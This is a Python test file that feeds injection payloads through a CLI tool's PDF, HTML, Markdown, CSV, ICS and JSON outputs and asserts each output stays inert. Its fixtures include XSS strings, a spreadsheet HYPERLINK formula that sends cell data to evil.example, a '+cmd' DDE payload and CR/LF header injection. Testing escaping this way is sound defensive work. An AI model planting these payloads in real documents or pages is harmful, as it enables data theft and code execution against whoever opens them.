"""The same hostile strings through every command and every format: each output stays inert.

The strings enter where they really do: a holder name and scope printed on a generated PDF
(fpdf2), a vendor folder name, a document file name and the stack's vendor and tool names.
Each output is then read the way its consumer reads it: HTML by an HTML parser (no injected
element or attribute), Markdown rendered by markdown-it (no link, image, raw HTML, heading
or quote from a value), CSV by the csv module (no cell opens with a formula character), ICS
unfolded (every line a well-formed property, one SUMMARY per event), JSON parsed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from markdown_it.token import Token

from scopegap.cli import main
from scopegap.report.escape.csv import FORMULA_STARTS

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:  # fixtures/ is not an installed package
    sys.path.insert(0, str(ROOT))

from fixtures.generate_hostile import hostile_certificate  # noqa: E402

AS_OF = "2026-11-22"
SCRIPT = '<script>alert("x")</script>'
ONERROR = "<img src=x onerror=alert(1)>"
LINK = "[x](http://evil.example/a)"
IMAGE = "![i](http://evil.example/i.png)"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
# Printed on the PDFs (the core PDF fonts are Latin-1: no RTL or zero-width there).
OLD_HOLDER = f"{FORMULA} Hostile Ltd"
NEW_HOLDER = f"# {LINK} {IMAGE} `tick` | pipe ;,\\ Hostile Group Ltd"
SCOPE = (f"The provision of contact centre services {SCRIPT} using Genesys Cloud CX and "
         f"{ONERROR} {LINK} from the Leeds site.")
# A vendor folder name as a careless or hostile user could create it (no "/" in a name).
FOLDER = ('=HYPERLINK("evil.example?q=1","Click") <img src=x onerror=alert(1)> '
          "[x](evil.example) ;,\\ \u202eevil\u200b")
DOCUMENT = "cert;a,b\\c.pdf"
LONG = "A" * 4000
STACK = {
    "vendor": (f"+cmd|' /C calc'!A0 {SCRIPT} {LINK} \u202eRTL\u200b zero;,\\ "
               "\rX-INJECTED:1 \nX-INJECTED:2 \x1b[31m"),
    "tools": ["Genesys Cloud CX", "@SUM(1+1) <b>bold</b>", f"-2+3 {IMAGE}",
              f"\t> quote\n- bullet\n# heading {LONG}"],
}
FORMATS = ("text", "json", "md", "html", "csv")
INJECTED_TAGS = {"script", "img", "iframe"}  # templates use <a> and <b>: judged by content
INJECTED_WORDS = ("quote", "bullet", "heading", "tick")


def _pdf(path: Path, holder: str) -> None:
    hostile_certificate(path, holder, SCOPE)


def _stack_yaml() -> str:
    tools = "\n".join(f"  - {json.dumps(tool)}" for tool in STACK["tools"])
    return (f"vendor: {json.dumps(STACK['vendor'])}\ncontract:\n  start: 2025-06-01\n"
            f"  end: 2028-05-31\ntools:\n{tools}\n")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile-world")
    vendor = root / "portfolio" / FOLDER
    vendor.mkdir(parents=True)
    new_pdf, old_pdf = vendor / DOCUMENT, root / "old.pdf"
    _pdf(new_pdf, NEW_HOLDER)
    _pdf(old_pdf, OLD_HOLDER)
    (vendor / "stack.yaml").write_text(_stack_yaml(), encoding="utf-8")
    return {"root": root, "portfolio": root / "portfolio", "new": new_pdf, "old": old_pdf,
            "stack": vendor / "stack.yaml"}


def _invoke(args: list[str]) -> str:
    result = CliRunner().invoke(main, [*args, "--as-of", AS_OF])
    assert result.exit_code in (0, 1), (args, result.output)
    return result.stdout


@pytest.fixture(scope="module")
def outputs(world: dict[str, Path]) -> dict[tuple[str, str], str]:
    """(command, format) → output, for every command × every format."""
    new, old, stack = str(world["new"]), str(world["old"]), str(world["stack"])
    found: dict[tuple[str, str], str] = {}
    for fmt in FORMATS:
        found["extract", fmt] = _invoke(["extract", new, "--format", fmt])
        found["check", fmt] = _invoke(["check", "--stack", stack, new, "--format", fmt])
        found["diff", fmt] = _invoke(["diff", old, new, "--format", fmt])
    out = world["root"] / "out"
    db = world["root"] / "history.sqlite3"
    ics = world["root"] / "renewals.ics"
    common = ["portfolio", str(world["portfolio"]), "--out-dir", str(out), "--no-cache", "-j", "1"]
    for fmt in FORMATS:
        found["portfolio", fmt] = _invoke([*common, "--no-history", "--format", fmt])
    _invoke([*common, "--db", str(db), "--ics", str(ics), "--format", "json", "-q"])
    for fmt, name in (("json", "portfolio.json"), ("csv", "portfolio.csv"),
                      ("html", "portfolio.html")):
        found["portfolio-file", fmt] = (out / name).read_text(encoding="utf-8")
    for report in sorted((out / "vendors").iterdir()):
        found["vendor-report", report.suffix.lstrip(".")] = report.read_text(encoding="utf-8")
    found["calendar", "ics"] = ics.read_bytes().decode("utf-8")  # keep its CRLF
    for fmt in ("text", "json", "md"):
        result = CliRunner().invoke(main, ["history", FOLDER, "--db", str(db), "--format", fmt])
        assert result.exit_code == 0, result.output
        found["history", fmt] = result.stdout
    return found


def test_the_payloads_really_enter(outputs: dict[tuple[str, str], str]) -> None:
    documents = json.loads(outputs["extract", "json"])["documents"]
    assert documents[0]["holder"] == NEW_HOLDER
    assert SCRIPT in documents[0]["scope_text"]
    drift = json.loads(outputs["diff", "json"])
    assert {(c["old"], c["new"]) for c in drift["changes"] if c["field"] == "holder"} == {
        (OLD_HOLDER, NEW_HOLDER)}
    summary = json.loads(outputs["portfolio-file", "json"])
    assert [(v["vendor_id"], v["vendor"]) for v in summary["vendors"]] == [
        (FOLDER, STACK["vendor"])]
    assert "SUMMARY:" in outputs["calendar", "ics"]


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

        self.text_after: dict[int, str] = {}  # element index → the text that opens it

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        if self.tags:
            self.text_after.setdefault(len(self.tags) - 1, data)


def assert_html_inert(html: str) -> None:
    page = _Page()
    page.feed(html)
    page.close()
    assert not {tag for tag, _ in page.tags} & INJECTED_TAGS
    for _tag, attrs in page.tags:
        assert not [name for name, _ in attrs if name.startswith("on")]
        assert not [value for _, value in attrs  # a report file's slug may say "evil"
                    if value and ("http://evil" in value or value.startswith("evil"))]
    bold = [i for i, (tag, _) in enumerate(page.tags) if tag == "b"]
    assert not [i for i in bold if page.text_after.get(i, "").startswith("bold")]


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def assert_markdown_inert(markdown: str) -> None:
    tokens = list(_tokens(MarkdownIt("commonmark").enable("table").parse(markdown)))
    assert not {token.type for token in tokens} & {"image", "html_inline", "html_block"}
    links = [t.attrGet("href") or "" for t in tokens if t.type == "link_open"]
    assert not [href for href in links if "evil.example" in str(href)]
    assert not [t.content for t in tokens if t.type == "code_inline" and "tick" in t.content]
    # A block (heading, quote, list item) opened by a value would start with its words.
    opened = [next((n.content for n in tokens[i:] if n.type == "inline"), "")
              for i, t in enumerate(tokens)
              if t.type in ("heading_open", "blockquote_open", "list_item_open")]
    assert not [text for text in opened if text.lstrip("#>- ").startswith(INJECTED_WORDS)]
    assert_html_inert(MarkdownIt("commonmark").enable("table").render(markdown))


def assert_csv_inert(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1  # no row broken by a CR/LF in a value
    assert not [cell for row in rows for cell in row
                if cell.lstrip(" ").startswith(FORMULA_STARTS)]


PROPERTY = re.compile(r"^[A-Z][A-Z0-9-]*(;[A-Z-]+=[^:;]*)*:")


def assert_ics_inert(text: str) -> None:
    assert "\n" not in text.replace("\r\n", "")  # only CRLF line ends, no lone CR or LF
    assert "\r" not in text.replace("\r\n", "")
    lines = text.replace("\r\n ", "").split("\r\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert PROPERTY.match(line), line
        assert not line.startswith("X-INJECTED")
    events = sum(line == "BEGIN:VEVENT" for line in lines)
    assert events >= 1
    assert sum(line.startswith("SUMMARY:") for line in lines) == events
    assert sum(line == "END:VEVENT" for line in lines) == events


def assert_text_inert(text: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", text)  # CR, ESC, RLO...


CHECKS: dict[str, Any] = {"html": assert_html_inert, "md": assert_markdown_inert,
                          "csv": assert_csv_inert, "ics": assert_ics_inert,
                          "json": json.loads, "text": assert_text_inert}


@pytest.mark.parametrize("key", [
    *((command, fmt) for command in ("extract", "check", "diff", "portfolio")
      for fmt in FORMATS),
    ("portfolio-file", "json"), ("portfolio-file", "csv"), ("portfolio-file", "html"),
    ("vendor-report", "json"), ("vendor-report", "html"), ("calendar", "ics"),
    ("history", "text"), ("history", "json"), ("history", "md"),
], ids="-".join)
def test_every_output_is_inert_for_its_format(outputs: dict[tuple[str, str], str],
                                             key: tuple[str, str]) -> None:
    CHECKS[key[1]](outputs[key])
